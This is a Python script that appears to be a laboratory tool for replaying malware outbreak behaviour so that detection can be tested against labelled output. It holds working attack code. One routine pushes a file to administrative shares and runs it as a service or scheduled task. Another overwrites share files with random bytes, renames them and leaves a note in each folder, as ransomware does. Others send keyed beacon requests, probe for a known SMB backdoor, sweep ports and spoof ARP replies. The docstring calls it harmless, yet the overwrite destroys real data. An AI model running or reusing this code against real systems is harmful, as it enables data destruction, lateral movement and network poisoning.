"""Harmless pieces of outbreaks, on python3-impacket and bare sockets.

    outbreak.py PLAY JOB.json

Plays: hop (a file to administrative shares, one after the other, then a
service or a task at a mock), calls (requests to a list of servers, most of
them dead), sweep (connections to one port of many addresses), knock (the
question by which a known back door is found), answers (a mock that answers
it), rewrite (files of a share read, rewritten and renamed), touch (files
made), start (a service at a mock, by sealed calls),
announce (addresses told by ARP), rap (neighbours asked for), clock (the time
asked for).

Files are inert, nothing is started on any machine, no address outside the
laboratory is asked, every loop is bounded. It prints one JSON object a line:
what it did and what came back, with the keys of the truth. Standards: MS-CIFS,
MS-SMB2, MS-SCMR, MS-TSCH, RFC 9112, DICOM PS3.7 and PS3.8.
"""
import base64
import json
import random
import selectors
import socket
import struct
import sys
import time

import rpcplays
import smb as visits
from impacket.dcerpc.v5 import atsvc, scmr, tsch
from impacket.dcerpc.v5.dtypes import NULL
from impacket.smbconnection import SessionError
from rpcplays import Way, tell, tried

JOB = {}
STATUS = {0xC0000022: "ACCESS_DENIED", 0xC0000034: "OBJECT_NAME_NOT_FOUND", 0xC00000CC: "BAD_NETWORK_NAME", 0xC000006D: "LOGON_FAILURE",
          0xC000003A: "OBJECT_PATH_NOT_FOUND", 0xC00000CA: "NETWORK_ACCESS_DENIED", 0xC00000BE: "BAD_NETWORK_PATH"}


def refused(e):
    code = e.getErrorCode() & 0xFFFFFFFF
    return "NT_STATUS_" + STATUS.get(code, "0x%08x" % code)


def put(way, share, path, name):
    """Writes a file; gives whether it was taken."""
    with open(JOB["files"][name], "rb") as f:
        data = f.read()
    at = [0]

    def piece(n):
        b = data[at[0]:at[0] + n]
        at[0] += len(b)
        return b
    state = ""
    try:
        way.conn.putFile(share, path, piece)
    except SessionError as e:
        state = refused(e)
    tree = state if "NETWORK" in state else "NT_STATUS_OK"
    tell(tree={"share": share, "status": tree})
    if tree != "NT_STATUS_OK":
        return False
    tell(op={"operation": "write", "share": share, "path": path, "to": "", "status": state or "NT_STATUS_OK"})
    h = rpcplays.hashlib
    tell(file={"share": share, "path": path, "up": True, "size": len(data), "sha256": h.sha256(data).hexdigest(), "md5": h.md5(data).hexdigest(),
               "complete": not state, "seen": 0, "connections": 0, "detail": "", "refused": state})
    return not state


def service(way):
    """Makes a service of what was copied, and starts it: both are the mock's word."""
    i, name, path = "svcctl", JOB["name"], JOB["command"]
    dce = way.bind(i, scmr.MSRPC_UUID_SCMR, "\\svcctl", JOB.get("level"))
    m = tried(way, i, "OpenSCManagerW", 15, {}, lambda: scmr.hROpenSCManagerW(dce))
    if m is None:
        return
    m = m["lpScHandle"]
    s = tried(way, i, "CreateServiceW", 12, {"service": name, "path": path},
              lambda: scmr.hRCreateServiceW(dce, m, name + "\0", JOB["display"] + "\0", lpBinaryPathName=path + "\0", dwStartType=scmr.SERVICE_AUTO_START))
    if s is not None:
        h = s["lpServiceHandle"]
        tried(way, i, "StartServiceW", 19, {"service": name}, lambda: scmr.hRStartServiceW(dce, h))
        if JOB.get("clean"):
            tried(way, i, "ControlService", 1, {"service": name}, lambda: scmr.hRControlService(dce, h, scmr.SERVICE_CONTROL_STOP))
            tried(way, i, "DeleteService", 2, {"service": name}, lambda: scmr.hRDeleteService(dce, h))
        tried(way, i, "CloseServiceHandle", 0, {}, lambda: scmr.hRCloseServiceHandle(dce, h))
    tried(way, i, "CloseServiceHandle", 0, {}, lambda: scmr.hRCloseServiceHandle(dce, m))
    dce.disconnect()


def task(way):
    i, path = "ITaskSchedulerService", "\\" + JOB["name"]
    dce = way.bind(i, tsch.MSRPC_UUID_TSCHS, "\\atsvc")
    program, _, arguments = JOB["command"].partition(" ")
    xml = rpcplays.XML.replace("C:\\Windows\\Temp\\SETUPX.EXE", program).replace("/quiet", arguments)
    ok = tried(way, i, "SchRpcRegisterTask", 1, {"path": path, "command": program},
               lambda: tsch.hSchRpcRegisterTask(dce, path + "\0", xml + "\0", tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE))
    if ok is not None:
        tried(way, i, "SchRpcRun", 12, {"path": path}, lambda: tsch.hSchRpcRun(dce, path + "\0"))
    dce.disconnect()


def job(way):
    dce = way.bind("atsvc", atsvc.MSRPC_UUID_ATSVC, "\\atsvc")
    info = atsvc.AT_INFO()
    info["JobTime"], info["DaysOfMonth"], info["DaysOfWeek"], info["Flags"], info["Command"] = 43200000, 0, 0, 0, JOB["command"] + "\0"
    tried(way, "atsvc", "NetrJobAdd", 0, {"command": JOB["command"]}, lambda: atsvc.hNetrJobAdd(dce, NULL, info))
    dce.disconnect()


def hop():
    """Tries the shares in order; all of them, or until one takes the file."""
    way = Way(JOB["transport"])
    taken = False
    for share, path in JOB["shares"]:
        ok = put(way, share, path, JOB["file"])
        taken = taken or ok
        if ok and not JOB.get("all"):
            break
        time.sleep(JOB.get("pause", 0.05))
    start = JOB.get("start", "")
    if start and (taken or JOB.get("anyway")):
        {"service": service, "task": task, "job": job}[start](way)
    if taken and JOB.get("clean"):
        way.conn.deleteFile(share, path)
        tell(op={"operation": "delete", "share": share, "path": path, "to": "", "status": "NT_STATUS_OK"})
    way.conn.logoff()
    way.conn.close()


def start():
    """A service made and started over TCP, at the level of protection that JOB names."""
    service(Way("tcp"))


def touch():
    """Makes files, names and content as told, on one share."""
    way = Way(JOB["transport"])
    for path, name in JOB["make"]:
        put(way, JOB["share"], path, name)
    way.conn.logoff()
    way.conn.close()


def rewrite():
    """Reads each file of some folders, writes other bytes, renames it, and leaves a note in each folder."""
    way = Way(JOB["transport"])
    c, share = way.conn, JOB["share"]
    tell(tree={"share": share, "status": "NT_STATUS_OK"})
    rand = random.Random(5)
    for folder, names in JOB["folders"].items():
        for name in names:
            path, got = folder + "\\" + name, []
            c.getFile(share, path, got.append)
            data = rand.randbytes(len(b"".join(got)))
            at = [0]

            def piece(n):
                b = data[at[0]:at[0] + n]
                at[0] += len(b)
                return b
            c.putFile(share, path, piece)
            c.rename(share, path, path + JOB["ending"])
            for what, to in (("read", ""), ("write", ""), ("rename", path + JOB["ending"])):
                tell(op={"operation": what, "share": share, "path": path, "to": to, "status": "NT_STATUS_OK"})
        put(way, share, folder + "\\" + JOB["note"], JOB["note"])
    c.logoff()
    c.close()


def request(path, key, host, agent):
    """The published shape: two headers, User-Agent first; q is a small head and a number, under the key."""
    plain = b"\x01\x00" + bytes(random.Random(path + host).randbytes(13))
    q = base64.b64encode(bytes(a ^ b for a, b in zip(plain, key))).decode()
    return ("GET %s?q=%s HTTP/1.1\r\nUser-Agent: %s\r\nHost: %s\r\n\r\n" % (path, q, agent, host)).encode()


def calls():
    """Asks one server after the other until one has something to give."""
    key = bytes.fromhex(JOB["key"])
    for address, path in JOB["servers"]:
        result, s = "", socket.socket()
        s.settimeout(JOB["timeout"])
        try:
            s.connect((address, 80))
            s.sendall(request(path, key, address, JOB["agent"]))
            result = s.recv(4096).split(b"\r\n")[0].decode()
        except OSError as e:
            result = type(e).__name__ + " " + str(e)
        s.close()
        tell(asked={"server": address, "path": path, "result": result})
        time.sleep(JOB["pause"])


def sweep():
    """Connects to one port of many addresses, at most ten at once, and closes."""
    left, open_, found = list(JOB["targets"]), {}, []
    sel = selectors.DefaultSelector()
    while left or open_:
        while left and len(open_) < 10:
            a, s = left.pop(0), socket.socket()
            s.setblocking(False)
            s.connect_ex((a, JOB["port"]))
            sel.register(s, selectors.EVENT_WRITE)
            open_[s] = (a, time.monotonic() + JOB["timeout"])
        for k, _ in sel.select(0.05):
            s = k.fileobj
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                found.append(open_[s][0])
            sel.unregister(s)
            s.close()
            del open_[s]
        for s in [s for s, (_, t) in open_.items() if t < time.monotonic()]:
            sel.unregister(s)
            s.close()
            del open_[s]
    tell(found=found)


def message(command, mid, words, data, tid=0, uid=0, flags=0x18, status=0):
    head = b"\xffSMB" + struct.pack("<BLBH", command, status, flags, 0xC007 if not flags & 0x80 else 0xC007) + struct.pack("<H8sHHHHH", 0, b"\0" * 8, 0, tid, 0xFEFF, uid, mid)
    body = head + bytes([len(words) // 2]) + words + struct.pack("<H", len(data)) + data
    return struct.pack(">L", len(body)) + body


def exactly(s, n):
    b = b""
    while len(b) < n:
        got = s.recv(n - len(b))
        if not got:
            raise EOFError
        b += got
    return b


def take(s):
    return exactly(s, struct.unpack(">L", exactly(s, 4))[0] & 0xFFFFFF)


def transaction(setup, name, param, command):
    """TRANSACTION and TRANSACTION2 requests (MS-CIFS 2.2.4.33, 2.2.4.46) with no data."""
    at = 32 + 1 + 28 + 2 * len(setup) + 2 + len(name)
    words = struct.pack("<HHHHBBHLHHHHHBB", len(param), 0, 1, 0xFFFF, 0, 0, 0, 0x00A4D9A6 if command == 0x32 else 5000, 0, len(param), at, 0, at + len(param), len(setup), 0)
    return words + b"".join(struct.pack("<H", x) for x in setup), name + param


def knock():
    """SMB1: a session of nobody, a tree with an address of another, and the two questions."""
    s = socket.create_connection((JOB["server"], 445), timeout=10)
    s.sendall(message(0x72, 64, b"", b"\x02NT LM 0.12\0"))
    take(s)
    words = struct.pack("<BBHHHHLHHLL", 0xFF, 0, 0, 4356, 10, 0, 0, 1, 0, 0, 0x40)
    s.sendall(message(0x73, 64, words, b"\0" + b"\0" + "\0".encode("utf-16le") * 2 + "Windows 5.1\0".encode("utf-16le") + "LZ\0".encode("utf-16le")))
    uid = struct.unpack("<H", take(s)[28:30])[0]
    unc = ("\\\\%s\\IPC$\0" % JOB["unc"]).encode("utf-16le")
    s.sendall(message(0x75, 64, struct.pack("<BBHHH", 0xFF, 0, 0, 8, 1), b"\0" + unc + b"?????\0", uid=uid))
    tid = struct.unpack("<H", take(s)[24:26])[0]
    words, data = transaction([0x23, 0], b"\0" + "\\PIPE\\\0".encode("utf-16le") + b"\0", b"", 0x25)
    s.sendall(message(0x25, 64, words, data, tid, uid))
    got = take(s)
    tell(answer={"question": "PeekNamedPipe", "status": "0x%08x" % struct.unpack("<L", got[5:9])[0], "mid": struct.unpack("<H", got[30:32])[0]})
    words, data = transaction([0x0E], b"\0\0\0", b"\0" * 12, 0x32)
    s.sendall(message(0x32, 65, words, data, tid, uid))
    got = take(s)
    tell(answer={"question": "SESSION_SETUP", "status": "0x%08x" % struct.unpack("<L", got[5:9])[0], "mid": struct.unpack("<H", got[30:32])[0]})
    s.close()


def answers():
    """Answers a knock: JOB's delta is added to the MID of a TRANSACTION2, pipe is the status of PeekNamedPipe."""
    door = socket.socket()
    door.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    door.bind((JOB["ip"], 445))
    door.listen(5)
    for _ in range(50):
        s = door.accept()[0]
        s.settimeout(20)
        try:
            while True:
                q = take(s)
                command, mid, tid, uid = q[4], struct.unpack("<H", q[30:32])[0], 0x800, 0x800
                words, data, status = b"", b"", 0
                if command == 0x72:
                    words = struct.pack("<HBHHLLLLQhB", 0, 3, 50, 1, 16644, 65536, 0, 0x8000E3FD & ~0x80000000, 133000000000000000, 0, 8)
                    data = b"LZLZLZLZ" + "LAZARUS\0".encode("utf-16le")
                elif command == 0x73:
                    words, data = struct.pack("<BBHH", 0xFF, 0, 0, 0), b"\0" + "Windows 5.1\0Windows 2000 LAN Manager\0LAZARUS\0".encode("utf-16le")
                elif command == 0x75:
                    words, data = struct.pack("<BBHH", 0xFF, 0, 0, 1), b"IPC\0\0\0"
                elif command == 0x25:
                    status = JOB["pipe"]
                elif command == 0x32:
                    status, mid = 0xC0000002, mid + JOB["delta"]
                elif command == 0x2B:  # an echo brings what it was given
                    words, data = struct.pack("<H", 1), q[37:37 + struct.unpack("<H", q[35:37])[0]]
                elif command == 0xA0:  # go on
                    pass
                elif command == 0x33:
                    continue
                else:
                    status = 0xC0000002
                s.sendall(message(command, mid, words, data, tid, uid, 0x98, status))
        except (EOFError, OSError):
            s.close()


def clock():
    """Asks for the time once (RFC 5905, version 4, client); the machine's own is not set."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(b"\x23" + bytes(39) + struct.pack(">LL", int(time.time()) + 2208988800, 0x4c5a4c5a), (JOB["server"], 123))
    tell(answer={"question": "time", "status": len(s.recv(512))})
    s.close()


def web():
    """Answers every request with 404 and ends."""
    door = socket.socket()
    door.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    door.bind((JOB["ip"], 80))
    door.listen(5)
    for _ in range(200):
        s = door.accept()[0]
        s.settimeout(5)
        try:
            b = b""
            while b"\r\n\r\n" not in b and len(b) < 65536:
                got = s.recv(4096)
                if not got:
                    break
                b += got
            if b:
                s.sendall(b"HTTP/1.1 404 Not Found\r\nServer: Apache\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        except OSError:
            pass
        s.close()


def rap():
    """NetServerEnum2 and NetServerEnum3 for all kinds of machines (MS-RAP 2.5.5.2 and 2.5.5.3), over SMB1."""
    way = Way("smb1")
    s = way.conn.getSMBServer()
    tid = s.tree_connect_andx("\\\\%s\\IPC$" % JOB["server"])
    for call, params in ((104, b"WrLehDz\0B16BBDz\0"), (215, b"WrLehDzz\0B16BBDz\0")):
        body = struct.pack("<H", call) + params + struct.pack("<HHL", 1, 4096, 0xFFFFFFFF) + JOB["domain"].encode() + b"\0" + (b"\0" if call == 215 else b"")
        name = b"\\PIPE\\LANMAN\0"
        at = 32 + 1 + 28 + 2 + len(name)
        words = struct.pack("<HHHHBBHLHHHHHBB", len(body), 0, 8, 4096, 0, 0, 0, 5000, 0, len(body), at, 0, at + len(body), 0, 0)
        got = visits.raw(s, tid, 0x25, words, name + body)
        tell(answer={"question": "RAP %d" % call, "status": "0x%08x" % visits.error(got)})
    s.disconnect_tree(tid)
    way.conn.logoff()


def pdu(kind, *parts):
    body = b"".join(parts)
    return struct.pack(">BBL", kind, 0, len(body)) + body


def item(kind, *parts):
    body = b"".join(parts)
    return struct.pack(">BBH", kind, 0, len(body)) + body


def take_pdu(s):
    head = exactly(s, 6)
    return head[0], exactly(s, struct.unpack(">L", head[2:])[0])


def associate():
    """An association for verification (PS3.8 9.3.2, PS3.7 D.3.3.2): an echo and a good-bye (PS3.7 9.3.5), or nothing."""
    verification = b"1.2.840.10008.1.1"
    s = socket.create_connection((JOB["server"], JOB["port"]), timeout=10)
    name = lambda title: title.encode().ljust(16)
    s.sendall(pdu(1, struct.pack(">HH", 1, 0), name(JOB["called"]), name(JOB["calling"]), b"\0" * 32, item(0x10, b"1.2.840.10008.3.1.1.1"),
                  item(0x20, b"\1\0\0\0", item(0x30, verification), item(0x40, b"1.2.840.10008.1.2")),
                  item(0x50, item(0x51, struct.pack(">L", 16384)), item(0x52, JOB["implementation"].encode()), item(0x55, JOB["version"].encode()))))
    kind, _ = take_pdu(s)
    tell(answer={"question": "A-ASSOCIATE", "status": str(kind)})
    if kind == 2 and JOB["echo"]:
        element = lambda tag, v: struct.pack("<HHL", 0, tag, len(v)) + v
        body = element(2, verification + b"\0") + element(0x100, b"\x30\0") + element(0x110, b"\1\0") + element(0x800, b"\1\1")
        body = element(0, struct.pack("<L", len(body))) + body
        s.sendall(pdu(4, struct.pack(">LBB", len(body) + 2, 1, 3), body))
        tell(answer={"question": "C-ECHO", "status": str(take_pdu(s)[0])})
        s.sendall(pdu(5, b"\0" * 4))
        take_pdu(s)
    s.close()


def announce():
    """ARP replies (RFC 826) that tell some that an address is at this card, or at the card that JOB names."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0x0806))
    own = s.getsockname()[4]
    for _ in range(JOB["times"]):
        for address, to_mac, to_ip in JOB["tell"]:
            mac = bytes.fromhex(JOB["mac"].replace(":", "")) if JOB.get("mac") else own
            target = bytes.fromhex(to_mac.replace(":", ""))
            s.send(target + mac + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2) + mac + socket.inet_aton(address) + target + socket.inet_aton(to_ip))
        time.sleep(JOB["pause"])


def main():
    with open(sys.argv[2]) as f:
        JOB.update(json.load(f))
    rpcplays.JOB.update(JOB)
    {"hop": hop, "start": start, "touch": touch, "rewrite": rewrite, "calls": calls, "sweep": sweep, "knock": knock, "answers": answers, "web": web, "announce": announce, "rap": rap, "clock": clock, "associate": associate}[sys.argv[1]]()
    tell(done=True)


if __name__ == "__main__":
    main()
